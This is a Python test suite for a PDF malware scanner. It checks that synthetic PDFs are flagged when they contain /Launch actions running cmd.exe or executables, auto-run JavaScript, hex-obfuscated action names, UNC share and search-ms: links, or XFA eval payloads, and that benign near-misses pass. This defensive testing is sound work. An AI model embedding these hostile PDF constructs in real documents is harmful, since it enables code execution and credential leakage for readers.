"""PDF: what runs, starts, fetches and is carried is told; ordinary documents stay unremarked."""

import io
import time

import fpdf
import pikepdf
import pytest

from samples import builders
from samples.pdf import carrying, document, opening, pdf_specimens, stream
from samples.specimen import Specimen
from scanners.budget import Budget
from scanners.documents.pdf import MAX_FINDINGS, PdfScanner
from scanners.documents.pdf_scripts import MAX_SCRIPT
from scanners.documents.pdf_syntax import MAX_TOKENS
from scanners.kit import Kit
from scanners.model import Content, DetectionLevel, Family, FileType, Reason, Report
from scanners.types.identify import TypeScanner
from scanners.types.table import TypeTable

PDF = FileType("pdf", "application/pdf", Family.DOCUMENT)
LAUNCH = b"<< /S /Launch /F (cmd.exe) >>"


@pytest.fixture
def scanner(table: TypeTable) -> PdfScanner:
    return PdfScanner(Kit(table, TypeScanner(table).identify))


def _scan(scanner: PdfScanner, data: bytes, size: int = 64 * 1024 * 1024) -> Report:
    budget = Budget(time.monotonic() + 20, size, 100, 8)
    return scanner.scan(Content(memoryview(data), file_type=PDF, path=("a.pdf",)), budget)


def _words(report: Report) -> set[str]:
    bad = (each for each in report.detections if each.level is DetectionLevel.SUSPICIOUS)
    return {each.name for each in bad}


@pytest.mark.parametrize("specimen", pdf_specimens(), ids=lambda each: each.name)
def test_specimens(scanner: PdfScanner, specimen: Specimen) -> None:
    report = _scan(scanner, specimen.data)
    bad = {each.code for each in report.detections if each.level is DetectionLevel.SUSPICIOUS}
    assert (bad, report.unscanned) == (set(specimen.expected), ())


BAD = [
    (document(b"/OpenAction 4 0 R", [LAUNCH]), {"launch"}),
    (document(b"/#4fpen#41ction 4 0 R", [LAUNCH.replace(b"/Launch", b"/L#61unch")]), {"launch"}),
    (document(b"/AA << /WC 4 0 R >>", [LAUNCH]), {"launch"}),
    (document(b"", [b"<< /A << /S /Launch /Win << /F <636d64> >> >> >>"]), {"launch"}),
    (document(b"", [LAUNCH.replace(b"(cmd.exe)", b"<< /F (a.pdf) /UF 5 0 R >>"), b"(a.js)"]),
     {"launch"}),
    (document(b"", packed={9: b"<< /S /Launch /F (a.exe) >>"}), {"launch"}),
    (opening(b"/S /JavaScript /JS 4 0 R", [stream(b"this.submitForm('x')")]), {"auto_run"}),
    (document(b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\(x\\))"
              b">>] >> >>"), {"auto_run"}),
    (document(b"", [b"<< /S /JavaScript /JS (exportDataObject\\({nLaunch:2}\\)) >>"]), {"exploit"}),
    (opening(b"/S /GoToR /F << /F (\\\\\\\\192.0.2.1\\\\a) >>"), {"share"}),
    (opening(b"/S /SubmitForm /F << /FS /URL /F (file://192.0.2.1/a) >>"), {"share"}),
    (document(b"", [b"<< /A << /S /URI /URI (\\\\\\\\192.0.2.1\\\\a) >> >>"]), {"share"}),
    (document(b"", [b"<< /A << /S /URI /URI (search-ms:query=x) >> >>"]), {"scheme"}),
    (document(b"/AcroForm << /XFA [(a) 4 0 R] >>", [
        stream(b"<x:script contentType='a'>eval(unescape(b))</x:script>")]), {"exploit"}),
    (builders.pdf() + b"%PDF\n<< /S /Launch /F (a.exe) >>", {"launch"}),
    (builders.pdf() + b"\n9 0 obj " + LAUNCH + b" endobj", {"launch"}),
]  # fmt: skip


@pytest.mark.parametrize("data, expected", BAD)
def test_tricks(scanner: PdfScanner, data: bytes, expected: set[str]) -> None:
    assert _words(_scan(scanner, data)) == expected


GOOD = [
    builders.pdf(),
    document(b"/OpenAction [3 0 R /Fit] /AcroForm << /Fields [] >>"),
    document(b"", [b"<< /A << /S /URI /URI (https://www.example/a.exe) >> >>"]),
    document(b"", [b"<< /A << /S /URI /URI <68747470733a2f2f61> >> >>"]),
    document(b"", [b"<< /A << /S /GoToR /F (chapter2.pdf) /D [0 /Fit] >> >>"]),
    document(b"", [b"<< /A << /S /Launch /F (film.mp4) >> >>"]),
    document(b"", [b"<< /A << /S /SubmitForm /F (https://forms.example/) >> >>"]),
    document(b"", [b"<< /A << /S /JavaScript /JS (this.submitForm\\('x'\\)) >> >>"]),
    document(b"/AcroForm << /XFA 4 0 R >>", [stream(b"<xdp><template/></xdp>")]),
    document(b"/AA << /WP << /S /JavaScript /JS (this.calculateNow\\(\\)) >> >>"),
    carrying(b"notes.txt", b"exe is a word"),
    carrying(b"C:\\\\Users\\\\ada\\\\photo.jpg", builders.jpeg()),
]


@pytest.mark.parametrize("data", GOOD)
def test_near_misses(scanner: PdfScanner, data: bytes) -> None:
    report = _scan(scanner, data)
    assert (_words(report), report.unscanned) == (set(), ())


def test_documents_of_real_writers(scanner: PdfScanner) -> None:
    page = fpdf.FPDF()
    page.add_page()
    page.set_font("helvetica")
    page.cell(text="a link", link="https://www.example/")
    page.embed_file(basename="data.csv", bytes=b"a,b\n", desc="the figures")
    report = _scan(scanner, bytes(page.output()))
    assert (_words(report), report.unscanned) == (set(), ())
    assert [(child.name, bytes(child.view)) for child in report.children] == [
        ("data.csv", b"a,b\n")
    ]


def _attached(pdf: pikepdf.Pdf, name: str) -> pikepdf.AttachedFileSpec:
    return pikepdf.AttachedFileSpec(
        pdf,
        builders.pe(),
        description="",
        filename=name,
        mime_type="",
        creation_date="",
        mod_date="",
    )


def test_a_document_larger_than_the_budget_is_a_gap(scanner: PdfScanner) -> None:
    report = _scan(scanner, carrying(b"a.txt", b"x" * 9999), size=100)
    assert {gap.reason for gap in report.unscanned} == {Reason.TOO_LARGE}


def test_ciphertext_is_left_to_others_but_a_false_trailer_hides_nothing(
    scanner: PdfScanner,
) -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["a"] = _attached(pdf, "a.exe")
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    report = _scan(scanner, out.getvalue())
    assert (_words(report), report.unscanned, report.children) == (set(), (), ())
    liar = carrying(b"a.exe", builders.pe()) + b"trailer << /Encrypt 1 0 R /Root 1 0 R >>"
    assert _words(_scan(scanner, liar)) == {"attachment"}


def test_other_types_and_coded_bytes_are_left_alone(scanner: PdfScanner) -> None:
    budget = Budget(time.monotonic() + 20, 1 << 20, 100, 8)
    data = memoryview(opening(LAUNCH))
    assert scanner.scan(Content(data), budget) == Report()
    assert scanner.scan(Content(data, file_type=PDF, codings=("gzip",)), budget) == Report()


@pytest.mark.parametrize(
    "piece",
    [
        b"1 0 obj",
        b"/JS ",
        b"<< /AA ",
        b"/URI(",
        b"obj << /EF 1 0 R ",
        b"%%%%% obj /JS ",
        b"1 % obj ",
    ],
)
def test_hostile_repetition_costs_little(scanner: PdfScanner, piece: bytes) -> None:
    began = time.process_time()
    _scan(scanner, b"%PDF-1.7\n" + piece * (200_000 // len(piece)))
    assert time.process_time() - began < 10


def test_harmless_findings_do_not_crowd_out_others(scanner: PdfScanner) -> None:
    films = [b"<< /S /Launch /F (film%d.mp4) >>" % number for number in range(MAX_FINDINGS + 9)]
    shells = [b"<< /S /Launch /F (a%d.exe) >>" % number for number in range(MAX_FINDINGS + 9)]
    script = b"<< /S /JavaScript /JS (exportDataObject\\({nLaunch:2}\\)) >>"
    report = _scan(scanner, document(b"", [*films, *shells, script]))
    assert _words(report) == {"launch", "exploit"}
    assert len(report.detections) == 2 * MAX_FINDINGS + 1


def test_what_is_found_before_the_time_is_up_is_kept(scanner: PdfScanner) -> None:
    budget = Budget(time.monotonic() + 20, 1, 100, 8)
    data = document(b"", [LAUNCH, b"<< /S /JavaScript /JS 6 0 R >>", stream(b"x" * 99)])
    report = scanner.scan(Content(memoryview(data), file_type=PDF, path=("a.pdf",)), budget)
    assert _words(report) == {"launch"}
    assert [gap.reason for gap in report.unscanned] == [Reason.TOO_LARGE]


GAPS = [
    (b"<< /S /Launch /X [" + b"1 " * MAX_TOKENS + b"] /F (a.exe) >>", Reason.TOO_MANY),
    (b"<< /X endobj /S /Launch /F (a.exe) >>", Reason.MALFORMED),
    (b"<< /S /JavaScript /JS 5 0 R >>", Reason.TOO_LARGE),
    (b"<< /S /JavaScript /JS (" + b" " * (MAX_SCRIPT + 1) + b") >>", Reason.TOO_MANY),
]


@pytest.mark.parametrize("data, reason", GAPS)
def test_what_is_not_read_to_its_end_is_a_gap(
    scanner: PdfScanner, data: bytes, reason: Reason
) -> None:
    nine = stream(b"x", b"/Filter [" + b"/FlateDecode " * 9 + b"]")
    report = _scan(scanner, document(b"", [data, nine]))
    assert [gap.reason for gap in report.unscanned] == [reason]


def test_a_script_longer_than_we_read_is_a_gap(scanner: PdfScanner) -> None:
    long = document(b"", [b"<< /S /JavaScript /JS 5 0 R >>", stream(b" " * (MAX_SCRIPT + 1))])
    assert [gap.reason for gap in _scan(scanner, long).unscanned] == [Reason.TOO_LARGE]


def test_any_revision_may_be_the_one_in_force(scanner: PdfScanner) -> None:
    newer = b"4 0 obj << /S /GoTo /F (b.pdf) >> endobj\n7 0 obj /GoTo endobj\n" * 9
    assert _words(_scan(scanner, document(b"/OpenAction 4 0 R", [LAUNCH]) + newer)) == {"launch"}
    kinds = b"\n7 0 obj /Launch endobj\n" + newer
    data = document(b"", [b"<< /A << /S 7 0 R /F (cmd.exe) /AA 0 >> >>"]) + kinds
    assert _words(_scan(scanner, data)) == {"launch"}


def test_an_action_in_other_words_is_a_gap(scanner: PdfScanner) -> None:
    report = _scan(scanner, document(b"", [b"<< /S 5 0 R /F (cmd.exe) >>", b"/Launch"]))
    assert [gap.reason for gap in report.unscanned] == [Reason.MALFORMED]


@pytest.mark.parametrize(
    "data",
    [
        b"1 0 obj << /Type /X" + b"/X /EmbeddedFile " * 4000,
        (b"<<" + b"/X /Encrypt " * 300) * 13,
        b"1 0 obj 1 0 R endobj\n" * 200 + b"2 0 obj << /S 1 0 R /JS 1 0 R >> endobj",
        b"1 0 obj (" + b"x" * 4_000_000 + b") endobj" + b"<< /JS 1 0 R >>" * 4000,
    ],
    ids=["files", "keys", "circles", "scripts"],
)
def test_what_names_one_object_often_costs_little(scanner: PdfScanner, data: bytes) -> None:
    began = time.process_time()
    _scan(scanner, b"%PDF-1.7\n" + data)
    assert time.process_time() - began < 8
